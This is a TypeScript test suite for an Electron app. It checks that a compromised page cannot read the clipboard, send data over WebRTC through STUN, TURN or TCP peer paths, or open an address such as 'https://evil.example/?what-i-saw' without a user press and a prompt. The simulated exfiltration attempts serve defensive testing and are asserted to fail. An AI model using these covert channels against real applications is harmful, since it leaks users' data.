import { createSocket } from 'node:dgram';
import { type AddressInfo, createServer } from 'node:net';
import { describe, expect, it } from 'vitest';
import { asked, until } from './support-window';
import { quietScene } from './support-scene';

const scene = quietScene();

describe('what a page taken over by an attacker', () => {
  it('can not read: the clipboard, though a person can paste', async () => {
    const { app } = scene;
    await app.electron.evaluate(({ clipboard }) => clipboard.writeText('copied-canary'));
    const read = await app.window.evaluate(() => {
      const seen: string[] = [];
      document.addEventListener('paste', (event) => seen.push(event.clipboardData?.getData('text') ?? ''), { once: true });
      const field = document.createElement('textarea');
      field.id = 'pasted-into';
      document.body.append(field);
      field.focus();
      const done = document.execCommand('paste');
      return { done, text: field.value, seen };
    });
    expect(read).toEqual({ done: false, text: '', seen: [] });
    await app.window.focus('#pasted-into');
    await app.electron.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows()[0]?.webContents.paste());
    await expect.poll(() => app.window.inputValue('#pasted-into')).toBe('copied-canary');
    await app.window.evaluate(() => document.getElementById('pasted-into')?.remove());
  });

  it('can not send: a packet by WebRTC', async () => {
    const listener = createSocket('udp4');
    const packets: number[] = [];
    listener.on('message', (message) => packets.push(message.length));
    await new Promise<void>((resolve) => listener.bind(0, '127.0.0.1', resolve));
    try {
      const candidates = await scene.app.window.evaluate(async (port) => {
        const found: string[] = [];
        const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] });
        connection.onicecandidate = ({ candidate }) => candidate?.candidate && found.push(candidate.candidate);
        connection.createDataChannel('out');
        await connection.setLocalDescription(await connection.createOffer());
        await new Promise((resolve) => setTimeout(resolve, 2_000));
        connection.close();
        return found;
      }, listener.address().port);
      expect(candidates).toEqual([]);
      expect(packets).toEqual([]);
    } finally {
      listener.close();
    }
  });

  it('can not open: an address in the browser without a press of the person, who is asked', async () => {
    const { stage, app } = scene;
    await app.electron.evaluate(({ dialog }) => {
      const asked: string[] = [];
      Object.assign(globalThis, { asked });
      dialog.showMessageBox = async (...given: unknown[]) => {
        asked.push((given.at(-1) as { detail: string }).detail);
        return { response: 0, checkboxChecked: false };
      };
    });
    const questions = () => app.electron.evaluate(() => Reflect.get(globalThis, 'asked') as string[]);
    const open = (url: string) => asked(app.window, 'links.open', { url });
    // Presses of earlier tests have served.
    await open('https://example.com/');
    const before = (await questions()).length;
    await app.window.evaluate(() => {
      const button = document.createElement('button');
      document.body.append(button);
      button.click();
      button.dispatchEvent(new MouseEvent('mousedown', { bubbles: true }));
      button.dispatchEvent(new KeyboardEvent('keydown', { key: 'Enter', bubbles: true }));
      button.remove();
    });
    expect(await open('https://evil.example/?what-i-saw')).toMatchObject({ ok: false, problem: { code: 'cancelled' } });
    expect((await questions()).slice(before)).toEqual([expect.stringContaining('https://evil.example/?what-i-saw')]);
    await app.window.keyboard.press('Shift');
    expect(await open('https://example.com/followed')).toMatchObject({ ok: true });
    await until(() => stage.opened().includes('https://example.com/followed'), 'the browser to open');
    expect(await open('https://evil.example/again')).toMatchObject({ ok: false });
    expect(stage.opened().filter((url) => url.includes('evil'))).toEqual([]);
  });

  it('can not open: a connection by WebRTC, through TURN over TCP or TLS or as a peer over TCP', async () => {
    const connected: string[] = [];
    const server = createServer((socket) => {
      connected.push('connected');
      socket.on('data', (data) => connected.push(data.toString('latin1'))).on('error', () => {});
      socket.destroySoon();
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const { port } = server.address() as AddressInfo;
    try {
      const settled = await scene.app.window.evaluate(async (to) => {
        const server = (scheme: string) => ({ urls: `${scheme}:127.0.0.1:${to}?transport=tcp`, username: 'what-it-saw', credential: 'x' });
        const ended: string[] = [];
        const gather = async (scheme: string) => {
          const connection = new RTCPeerConnection({ iceServers: [server(scheme)], iceTransportPolicy: 'relay' });
          connection.createDataChannel('out');
          const done = new Promise<void>((resolve) => {
            connection.onicegatheringstatechange = () => connection.iceGatheringState === 'complete' && resolve();
          });
          await connection.setLocalDescription(await connection.createOffer());
          await done;
          ended.push(scheme);
          connection.close();
        };
        const peer = async () => {
          const [one, other] = [new RTCPeerConnection(), new RTCPeerConnection()];
          one.createDataChannel('out');
          await one.setLocalDescription(await one.createOffer());
          await other.setRemoteDescription(one.localDescription as RTCSessionDescription);
          await other.setLocalDescription(await other.createAnswer());
          await one.setRemoteDescription(other.localDescription as RTCSessionDescription);
          const candidate = `candidate:1 1 tcp 1518280447 127.0.0.1 ${to} typ host tcptype passive`;
          await one.addIceCandidate({ candidate, sdpMid: '0', sdpMLineIndex: 0 });
          await new Promise((resolve) => setTimeout(resolve, 3_000));
          ended.push('peer');
          one.close();
          other.close();
        };
        await Promise.all([gather('turn'), gather('turns'), peer()]);
        return ended.sort();
      }, port);
      expect(settled).toEqual(['peer', 'turn', 'turns']);
      expect(connected).toEqual([]);
      // The server can be reached, so that its silence means something.
      await fetch(`http://127.0.0.1:${port}/`).catch(() => {});
      expect(connected).not.toEqual([]);
    } finally {
      server.close();
    }
  });
});
